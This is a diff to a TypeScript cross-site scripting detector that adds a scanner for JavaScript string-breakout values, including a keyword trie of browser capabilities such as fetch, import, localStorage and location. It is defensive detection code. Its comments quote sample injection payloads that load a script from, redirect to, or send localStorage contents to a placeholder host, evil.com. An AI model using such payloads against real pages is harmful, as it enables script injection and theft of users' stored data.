@@ -2453,6 +2453,188 @@ function scanDom(s: string, best: Best, spans: readonly number[] | undefined, ro
   return false;
 }
 
+/**
+ * Browser capabilities a JavaScript-string breakout uses to do harm without a dialog or a
+ * document./window. chain (scanJsSinks, scanDom): load a remote script, exfiltrate storage, redirect.
+ * Call names count before a call (`(` or a backtick), references before code punctuation (isRefFollower),
+ * BO_SET names before an assignment or a member (`location=`, `location.href`, `onerror=alert`), and
+ * BO_MEMBER_SET names assigned as a member (`s.src=`, `x.innerHTML=`).
+ */
+const BO_CALL_K = 1;
+const BO_REF_K = 2;
+const BO_SET_K = 4;
+/** Assigned as a member only (`s.src=`, `x.innerHTML=`): a variable of that name does nothing. */
+const BO_MEMBER_SET_K = 8;
+/**
+ * The BO_* names as a trie over ASCII (BO_NEXT: state × 128 → next state, 0 = none; BO_KIND: the
+ * kinds of the name ending at a state). An identifier is walked one table read per character and
+ * left at its first character no name continues with: no map lookup, no slice. (With maps by first
+ * character, `';abcd(abcd(…//` at 1 MB cost ~63 µs/KB; ~3 with this.)
+ */
+const BO_TRIE = ((): { next: Uint16Array; kind: Uint8Array } => {
+  const lists: Array<[number, string]> = [
+    [
+      BO_CALL_K,
+      'import fetch open eval Function atob setTimeout setInterval sendBeacon postMessage getScript globalEval ajax ' +
+        'createElement appendChild write writeln insertAdjacentHTML WebSocket EventSource alert prompt confirm',
+    ],
+    [BO_REF_K, 'localStorage sessionStorage indexedDB XMLHttpRequest'],
+    [BO_SET_K, 'location onerror onload'],
+    [BO_MEMBER_SET_K, 'src href action innerHTML outerHTML'],
+  ];
+  let states = 1;
+  for (const [, names] of lists) states += names.replaceAll(' ', '').length;
+  const next = new Uint16Array(states * 128);
+  const kind = new Uint8Array(states);
+  let used = 1;
+  for (const [k, names] of lists) {
+    for (const name of names.split(' ')) {
+      let st = 0;
+      for (let i = 0; i < name.length; i++) {
+        const at = st * 128 + name.charCodeAt(i);
+        if (next[at] === 0) next[at] = used++;
+        st = next[at] as number;
+      }
+      kind[st] = (kind[st] as number) | k;
+    }
+  }
+  return { next, kind };
+})();
+
+/** After a BO_REF name, what makes it code (`localStorage.t`, `new XMLHttpRequest;`): not `"localStorage":`. */
+function isRefFollower(d: number): boolean {
+  return d === -1 || d === 46 || d === 61 || d === 59 || d === 41 || d === 44 || d === 93 || d === 43 || d === 91 || d === 40;
+}
+
+/** `+ - * | & ^ % , ;`: what joins a closed string to injected code (`';x//`, `'+x+'`, `'-x-'`). */
+function isJoinOp(c: number): boolean {
+  return c === 59 || c === 43 || c === 45 || c === 42 || c === 124 || c === 38 || c === 94 || c === 37 || c === 44;
+}
+
+/**
+ * A value shaped as a complete JavaScript-string breakout: it opens by closing a string (a quote,
+ * optional `\`, `)`, `]`, `}`, then `;` or an operator) and ends by neutralising the rest of the line
+ * (a `//` comment to the end) or by reopening a string (an operator or `=`, `(`, then the same quote).
+ * Returns the end of the head, or -1; `boTail` receives where the tail starts. O(1) but for the
+ * lastIndexOf of `//` and its line-break check (one pass over the tail).
+ */
+let boTail = -1;
+
+/** The value's first character, past up to 8 blanks and 2 backslashes, is a quote. O(1). */
+function quoteHead(s: string): boolean {
+  let k = 0;
+  while (k < s.length && k < 8 && s.charCodeAt(k) <= 32) k++;
+  while (k < s.length && k < 10 && s.charCodeAt(k) === 92) k++;
+  return isQuote(s.charCodeAt(k));
+}
+
+function breakoutFrame(s: string): number {
+  const n = s.length;
+  let k = 0;
+  while (k < n && k < 8 && s.charCodeAt(k) <= 32) k++;
+  while (k < n && k < 10 && s.charCodeAt(k) === 92) k++;
+  const q = s.charCodeAt(k);
+  if (!isQuote(q)) return -1;
+  k++;
+  const stop = Math.min(n, k + 8);
+  while (k < stop) {
+    const c = s.charCodeAt(k);
+    if (c === 41 || c === 93 || c === 125 || c <= 32) k++;
+    else break;
+  }
+  if (k >= n || !isJoinOp(s.charCodeAt(k))) return -1;
+  const head = k + 1;
+  let e = n;
+  while (e > head && s.charCodeAt(e - 1) <= 32) e--;
+  if (e <= head) return -1;
+  // Reopened string: `…+'`, `…;var a='`, `…('`.
+  if (s.charCodeAt(e - 1) === q) {
+    let j = e - 2;
+    while (j >= head && s.charCodeAt(j) <= 32 && e - j < 8) j--;
+    const c = j >= head ? s.charCodeAt(j) : -1;
+    if (c !== -1 && (isJoinOp(c) || c === 61 || c === 40)) {
+      boTail = j;
+      return head;
+    }
+  }
+  // A `//` comment that runs to the end of the value (no line break after it).
+  // (Not a URL's `://`: a JSON fragment `", "u": "http://x/` closes and reopens no code.)
+  const t = s.lastIndexOf('//', e - 1);
+  if (t < head || s.charCodeAt(t - 1) === 58) return -1;
+  for (let j = t + 2; j < e; j++) {
+    const c = s.charCodeAt(j);
+    if (c === 10 || c === 13 || c === 0x2028 || c === 0x2029) return -1;
+  }
+  boTail = t;
+  return head;
+}
+
+/**
+ * `';import('//evil.com/x.js')//`, `';location='//evil.com'//`, `'+fetch('//x?'+localStorage.t)+'`:
+ * a complete breakout (breakoutFrame) whose code names a browser capability (BO_*). Prose and code
+ * snippets do not start by closing a string with an operator and end with a comment or a reopened
+ * string. One pass over the identifiers between head and tail; each compared only by its first
+ * character's short list (memberIn).
+ */
+function scanBreakoutStatement(s: string, best: Best): boolean {
+  const a = breakoutFrame(s);
+  if (a === -1) return false;
+  const b = boTail;
+  const next = BO_TRIE.next;
+  const kinds = BO_TRIE.kind;
+  let k = a;
+  // `st` walks the trie along the current identifier (-1: not a BO_* prefix, or not at an identifier
+  // start); one table read per identifier character, nothing per other character but the test.
+  let st = -1;
+  let start = a;
+  let prevId = a > 0 && isIdentChar(s.charCodeAt(a - 1));
+  for (; k <= b; k++) {
+    const c = k < b ? s.charCodeAt(k) : 32;
+    const id = c < 128 && (IDENT_ASCII[c] as number) !== 0;
+    if (id) {
+      if (!prevId) {
+        st = 0;
+        start = k;
+      }
+      if (st !== -1) {
+        const nx = next[st * 128 + c] as number;
+        st = nx === 0 ? -1 : nx;
+      }
+      prevId = true;
+      continue;
+    }
+    if (prevId && st > 0 && kinds[st] !== 0 && judgeBreakoutName(s, start, k, b, kinds[st] as number)) {
+      return best.add('js-breakout', 'high', 'A string breakout into code that loads, sends or redirects (import, fetch, storage, location, …).');
+    }
+    // (A non-ASCII character ends the identifier, as isIdentChar reads them elsewhere in this file:
+    // `éfetch(` is judged as `fetch(`, which only errs towards reporting.)
+    prevId = false;
+    st = -1;
+  }
+  return false;
+}
+
+/** ASCII identifier characters ([A-Za-z0-9_$]) as a table. */
+const IDENT_ASCII = ((): Uint8Array => {
+  const t = new Uint8Array(128);
+  for (let c = 0; c < 128; c++) if (isIdentChar(c)) t[c] = 1;
+  return t;
+})();
+
+/** A BO_* name of `kind` ended at `e`: does what follows make it the capability it names? O(1). */
+function judgeBreakoutName(s: string, a: number, e: number, b: number, kind: number): boolean {
+  let f = e;
+  while (f < b && f - e < 4 && (s.charCodeAt(f) === 32 || s.charCodeAt(f) === 9)) f++;
+  const d = f < b ? s.charCodeAt(f) : -1;
+  const assign = d === 61 && s.charCodeAt(f + 1) !== 61;
+  return (
+    ((d === 40 || d === 96) && (kind & BO_CALL_K) !== 0) ||
+    (isRefFollower(d) && (kind & BO_REF_K) !== 0) ||
+    ((assign || (d === 46 && f === e)) && (kind & BO_SET_K) !== 0) ||
+    (assign && a > 0 && s.charCodeAt(a - 1) === 46 && (kind & BO_MEMBER_SET_K) !== 0)
+  );
+}
+
 /** AngularJS (and other client-side template) expressions that reach the Function constructor. */
 function scanTemplates(s: string, best: Best): boolean {
   let i = s.indexOf('{{');
@@ -2910,7 +3092,9 @@ export function detectXss(value: string): Detection | undefined {
     !(f & F_COLON && need & N_CSS) &&
     !(f & (F_PAREN | F_BACKTICK) && need & (N_SINK | N_INDIRECT)) &&
     !(f & F_BRACE && need & (N_TPL | N_JSENT)) &&
-    !(need & N_DOM)
+    !(need & N_DOM) &&
+    // (scanBreakoutStatement: a value that starts with a quote; at most 10 characters read.)
+    !quoteHead(value)
   ) {
     return undefined; // no scan below can fire
   }
@@ -3012,5 +3196,6 @@ export function detectXss(value: string): Detection | undefined {
     if (f & F_AMP && need & N_JSENT && scanJsEntities(s, best)) return best.hit;
   }
   if (roots !== undefined && scanDom(s, best, spans, roots)) return best.hit;
+  if (!best.high && quoteHead(s) && scanBreakoutStatement(s, best)) return best.hit;
   return best.hit;
 }
